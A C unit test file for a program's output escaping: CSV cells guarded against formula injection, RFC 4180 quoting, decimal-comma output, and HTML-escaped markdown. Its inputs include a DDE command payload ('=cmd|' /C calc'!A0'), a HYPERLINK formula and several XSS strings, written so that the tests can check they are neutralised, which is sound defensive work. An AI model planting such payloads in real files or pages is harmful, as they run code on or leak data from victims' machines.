/*
 * test_format.c - the escaping functions of the output layer
 * (src/render/format.c): a CSV text cell (csv_field, csv_text) and its
 * switch csv_set_raw_text, against a number cell (csv_number); cells and numbers
 * with csv_set_decimal_comma (--decimal-comma); markdown text
 * (md_text, md_printf); and a line break of a note in text
 * (print_para, print_lines, a table's last column).
 *
 * The expected cells are written by hand from the rule they follow: OWASP's
 * advice against CSV injection (a leading ' before a cell that starts with
 * =, +, -, @, a tab or a carriage return) and RFC 4180's quoting (a cell
 * with a comma, a quote or a line break in quotes, its quotes doubled); the
 * HTML character references of <, > and & (&lt;, &gt;, &amp;), GitHub's
 * escaped pipe in a table cell (\|) and <br> for a line break.
 */
#define _POSIX_C_SOURCE 200809L
#include "testutil.h"

#include <stdlib.h>

#include "render.h"

/* What fn writes to a stream, as a malloc'd string. */
#define CAPTURE(out, call)                                                  \
	do {                                                                \
		size_t len_;                                                \
		FILE *fp = open_memstream(&(out), &len_);                   \
		assert_non_null(fp);                                        \
		call;                                                       \
		assert_int_equal(fclose(fp), 0);                            \
	} while (0)

/* The cell csv_field writes for s, compared with want; and csv_text's, the same bytes. */
static void check_cell(const char *s, const char *want)
{
	char *got = NULL;

	CAPTURE(got, csv_field(fp, s, 1));
	if (strcmp(got, want)) {
		print_error("csv_field(\"%s\") = [%s], expected [%s]\n", s, got, want);
		fail();
	}
	free(got);
	char *buf = malloc(2 * strlen(s) + 3);
	assert_non_null(buf);
	size_t n = csv_text(buf, s);
	if (n != strlen(want) || memcmp(buf, want, n)) {
		print_error("csv_text(\"%s\") = [%.*s], expected [%s]\n", s, (int)n, buf, want);
		fail();
	}
	free(buf);
}

static void test_csv_formulas(void **state)
{
	(void)state;
	csv_set_raw_text(0);
	check_cell("=HYPERLINK(\"http://e/\"&A1)", "\"'=HYPERLINK(\"\"http://e/\"\"&A1)\"");
	check_cell("=1+1", "'=1+1");
	check_cell("+1+1", "'+1+1");
	check_cell("-2+3", "'-2+3");
	check_cell("@SUM(A1)", "'@SUM(A1)");
	check_cell("\tcmd", "'\tcmd");
	check_cell("\rcmd", "\"'\rcmd\"");
	check_cell("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0");
	check_cell("-", "'-");
	check_cell("+", "'+");
	check_cell("-e5", "'-e5");
	check_cell("-1e", "'-1e");
	check_cell("--5", "'--5");
	check_cell("-5-", "'-5-");
	check_cell("-inf", "'-inf");
	check_cell("-0x10", "'-0x10");
	check_cell("-1,5,=2", "\"'-1,5,=2\"");
	check_cell("@", "'@");
}

static void test_csv_plain_text(void **state)
{
	(void)state;
	csv_set_raw_text(0);
	check_cell("", "");
	check_cell("Licences", "Licences");
	check_cell("a=b", "a=b");
	check_cell(" =1", "\" =1\"");
	check_cell("<svg onload=x>", "<svg onload=x>");
	check_cell("Sales, service", "\"Sales, service\"");
	check_cell("say \"hi\"", "\"say \"\"hi\"\"\"");
	check_cell("two\nlines", "\"two\nlines\"");
	check_cell("'=already", "'=already");
}

/* Text that reads as a number is a value, not a formula: as it is. */
static void test_csv_numbers_as_text(void **state)
{
	(void)state;
	csv_set_raw_text(0);
	check_cell("-5000", "-5000");
	check_cell("-0.5", "-0.5");
	check_cell("-3%", "-3%");
	check_cell("+10%", "+10%");
	check_cell("-30%", "-30%");
	check_cell("+0%", "+0%");
	check_cell("-.5", "-.5");
	check_cell("-5.", "-5.");
	check_cell("+1e-6", "+1e-6");
	check_cell("-2.5E+10", "-2.5E+10");
	check_cell("-5,000", "\"-5,000\"");
	check_cell("-1,234,567.89", "\"-1,234,567.89\"");
}

static void test_csv_number_cells(void **state)
{
	char *got = NULL;

	(void)state;
	csv_set_raw_text(0);
	CAPTURE(got, (csv_number(fp, -5000, 1), csv_number(fp, -0.25, 0),
		      csv_number15(fp, -1234.5, 0), csv_number(fp, NAN, 0), csv_end(fp)));
	assert_string_equal(got, "-5000,-0.25,-1234.5,\r\n");
	free(got);
}

/* --raw-text: every text cell as it is; quoting unchanged. */
static void test_csv_raw_text(void **state)
{
	(void)state;
	csv_set_raw_text(1);
	check_cell("=1+1", "=1+1");
	check_cell("@SUM(A1)", "@SUM(A1)");
	check_cell("\tcmd", "\tcmd");
	check_cell("=HYPERLINK(\"http://e/\"&A1)", "\"=HYPERLINK(\"\"http://e/\"\"&A1)\"");
	check_cell("-5000", "-5000");
	csv_set_raw_text(0);
	check_cell("=1+1", "'=1+1");
}

/* A row: the separator before every cell but the first, NULL an empty cell. */
static void test_csv_row(void **state)
{
	char *got = NULL;

	(void)state;
	csv_set_raw_text(0);
	CAPTURE(got, (csv_field(fp, "@a", 1), csv_field(fp, NULL, 0), csv_field(fp, "-1", 0),
		      csv_field(fp, "+x", 0), csv_end(fp)));
	assert_string_equal(got, "'@a,,-1,'+x\r\n");
	free(got);
}

/*
 * --decimal-comma: as a spreadsheet with a European locale reads CSV. Cells
 * separated by ';', numbers with a decimal comma, text quoted when it holds
 * a ';' (a comma is plain text then), and text that reads as a number in
 * that convention (-1.234,5) not taken for a formula.
 */
static void test_csv_decimal_comma(void **state)
{
	char *got = NULL;

	(void)state;
	csv_set_raw_text(0);
	csv_set_decimal_comma(1);
	assert_int_equal(csv_sep(), ';');
	CAPTURE(got, (csv_number(fp, -5000, 1), csv_number(fp, -0.25, 0),
		      csv_number15(fp, -1234.5, 0), csv_number(fp, NAN, 0),
		      csv_number(fp, 1.5e-300, 0), csv_field(fp, "a, b", 0),
		      csv_field(fp, "a; b", 0), csv_field(fp, "-2,5%", 0), csv_end(fp)));
	assert_string_equal(got, "-5000;-0,25;-1234,5;;1,5e-300;a, b;\"a; b\";-2,5%\r\n");
	free(got);
	check_cell("-1.234,5", "-1.234,5");
	check_cell("-0,5", "-0,5");
	check_cell("-1,234.5", "'-1,234.5");   /* not a number there: a formula's start */
	check_cell("x;y", "\"x;y\"");
	check_cell("12,5", "12,5");
	char buf[64];
	assert_int_equal(csv_number_text(buf, 1234.5), 6);
	assert_string_equal(buf, "1234,5");
	strcpy(buf, "16.67");
	csv_mark(buf);
	assert_string_equal(buf, "16,67");
	csv_set_decimal_comma(0);
	assert_int_equal(csv_sep(), ',');
	assert_int_equal(csv_number_text(buf, 1234.5), 6);
	assert_string_equal(buf, "1234.5");
	strcpy(buf, "16.67");
	csv_mark(buf);
	assert_string_equal(buf, "16.67");
	CAPTURE(got, (csv_number(fp, -0.25, 1), csv_field(fp, "a, b", 0), csv_end(fp)));
	assert_string_equal(got, "-0.25,\"a, b\"\r\n");
	free(got);
}

/* ---------------------------------------------------------------- markdown */

static void check_md(const char *s, const char *want)
{
	char *got = NULL;

	CAPTURE(got, md_text(fp, s));
	if (strcmp(got, want)) {
		print_error("md_text(\"%s\") = [%s], expected [%s]\n", s, got, want);
		fail();
	}
	free(got);
}

static void test_md_text(void **state)
{
	(void)state;
	check_md("", "");
	check_md("Licences", "Licences");
	check_md("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;");
	check_md("<svg onload=x>", "&lt;svg onload=x&gt;");
	check_md("<img src=x onerror=y>", "&lt;img src=x onerror=y&gt;");
	check_md("Tom & Jerry", "Tom &amp; Jerry");
	check_md("&lt;b&gt;", "&amp;lt;b&amp;gt;");
	check_md("a|b", "a\\|b");
	check_md("first\nsecond", "first<br>second");
	check_md("first\r\nsecond", "first<br>second");
	check_md("first\rsecond", "first<br>second");
	check_md("one\n\ntwo", "one<br><br>two");
	check_md("=HYPERLINK(\"http://e/\"&A1)", "=HYPERLINK(\"http://e/\"&amp;A1)");
	check_md("**bold** _it_ `code`", "**bold** _it_ `code`");
	check_md("\\n shown as typed", "\\n shown as typed");
	check_md(NULL, "");
}

static void test_md_printf(void **state)
{
	char *got = NULL;

	(void)state;
	CAPTURE(got, md_printf(fp, "Baseline: %s (%d)", "<i>&co", 7));
	assert_string_equal(got, "Baseline: &lt;i&gt;&amp;co (7)");
	free(got);
}

/* A table cell: its line break a <br>, its pipe escaped, so that the row stays one row. */
static void test_md_table_cell(void **state)
{
	text_table t;
	char *got = NULL;

	(void)state;
	assert_int_equal(table_init(&t, 2), 0);
	assert_int_equal(table_add(&t, ROW_NORMAL, (const char *[]){ "Line", "Note" }), 0);
	assert_int_equal(table_add(&t, ROW_NORMAL, (const char *[]){ "<b>", "one\ntwo | three" }), 0);
	CAPTURE(got, table_print_markdown(&t, fp));
	assert_string_equal(got, "| Line | Note |\n| --- | --- |\n| &lt;b&gt; | one<br>two \\| three |\n");
	free(got);
	table_free(&t);
}

/* ------------------------------------------------------------- text notes */

static void test_text_para_breaks(void **state)
{
	char *got = NULL;

	(void)state;
	CAPTURE(got, print_para(fp, "    ", "note: first\n-2+3 second\r\nthird"));
	assert_string_equal(got, "    note: first\n    -2+3 second\n    third\n");
	free(got);
	CAPTURE(got, print_para(fp, "  ", "ends with a break\n"));
	assert_string_equal(got, "  ends with a break\n");
	free(got);
	CAPTURE(got, print_lines(fp, 7, "first\nsecond\n\nfourth"));
	assert_string_equal(got, "first\n       second\n\n       fourth");
	free(got);
}

/* A note in a table's last column: its further lines start under its first. */
static void test_text_table_note(void **state)
{
	text_table t;
	char *got = NULL;

	(void)state;
	assert_int_equal(table_init(&t, 3), 0);
	assert_int_equal(table_add(&t, ROW_NORMAL, (const char *[]){ "Input", "Value", "Note" }), 0);
	assert_int_equal(table_add(&t, ROW_NORMAL, (const char *[]){ "seats", "100",
		"Seats bought:\n=the pilot's 40" }), 0);
	assert_int_equal(table_add(&t, ROW_NOTE, (const char *[]){ "note: a\nb", NULL, NULL }), 0);
	CAPTURE(got, table_print_text(&t, fp, "  "));
	assert_string_equal(got, "  Input  Value  Note\n"
			    "  seats  100    Seats bought:\n"
			    "                =the pilot's 40\n"
			    "      note: a\n"
			    "      b\n");
	free(got);
	table_free(&t);
}

/*
 * A table keeps its cells' text in blocks: many short cells share one, a
 * long cell gets its own between them, and every cell reads back whole.
 */
static void test_text_table_cells_kept(void **state)
{
	enum { NROWS = 5000 };
	text_table t;
	char *longcell = malloc(40001);

	(void)state;
	assert_non_null(longcell);
	memset(longcell, 'x', 40000);
	longcell[40000] = '\0';
	assert_int_equal(table_init(&t, 2), 0);
	for (int r = 0; r < NROWS; r++) {
		char a[32], b[32];
		snprintf(a, sizeof a, "row %d", r);
		snprintf(b, sizeof b, "%d", r * 7);
		assert_int_equal(table_add(&t, ROW_NORMAL, (const char *[]){ a,
			r == NROWS / 2 ? longcell : b }), 0);
	}
	for (int r = 0; r < NROWS; r++) {
		char a[32], b[32];
		snprintf(a, sizeof a, "row %d", r);
		snprintf(b, sizeof b, "%d", r * 7);
		assert_string_equal(t.cells[2 * r], a);
		assert_string_equal(t.cells[2 * r + 1], r == NROWS / 2 ? longcell : b);
	}
	table_free(&t);
	free(longcell);
}

/*
 * A rate's exact percentage: the shortest text of the fraction with its
 * point moved two places (by hand: 0.07 reads 7%, where 0.07 x 100 is
 * 7.000000000000001), every digit kept, none made up.
 */
static void test_exact_percent(void **state)
{
	static const struct { double v; const char *want; } cases[] = {
		{ 0.004, "0.4%" }, { 0.75, "75%" }, { 1, "100%" }, { 0, "0%" }, { -0.0, "0%" },
		{ -0.025, "-2.5%" }, { 0.1, "10%" }, { 0.07, "7%" }, { 1.5e-05, "0.0015%" },
		{ 12.5, "1250%" }, { 0.123456789, "12.3456789%" }, { 0.0001, "0.01%" },
		{ 1e-05, "0.001%" }, { 1234.5, "123450%" }, { 0.1 + 0.2, "30.000000000000004%" },
		{ 1e-300, "1e-298%" }, { 1e45, "1e+47%" }, { 1e25, "1" "000000000000000000000000000%" }, { -1.5e-30, "-1.5e-28%" },
	};
	char buf[64];

	(void)state;
	for (size_t k = 0; k < sizeof cases / sizeof *cases; k++) {
		fmt_exact_percent(buf, sizeof buf, cases[k].v);
		if (strcmp(buf, cases[k].want))
			print_error("%.17g: '%s', expected '%s'\n", cases[k].v, buf, cases[k].want);
		assert_string_equal(buf, cases[k].want);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_csv_formulas),
		cmocka_unit_test(test_exact_percent),
		cmocka_unit_test(test_csv_plain_text),
		cmocka_unit_test(test_csv_numbers_as_text),
		cmocka_unit_test(test_csv_number_cells),
		cmocka_unit_test(test_csv_raw_text),
		cmocka_unit_test(test_csv_row),
		cmocka_unit_test(test_csv_decimal_comma),
		cmocka_unit_test(test_md_text),
		cmocka_unit_test(test_md_printf),
		cmocka_unit_test(test_md_table_cell),
		cmocka_unit_test(test_text_para_breaks),
		cmocka_unit_test(test_text_table_note),
		cmocka_unit_test(test_text_table_cells_kept),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
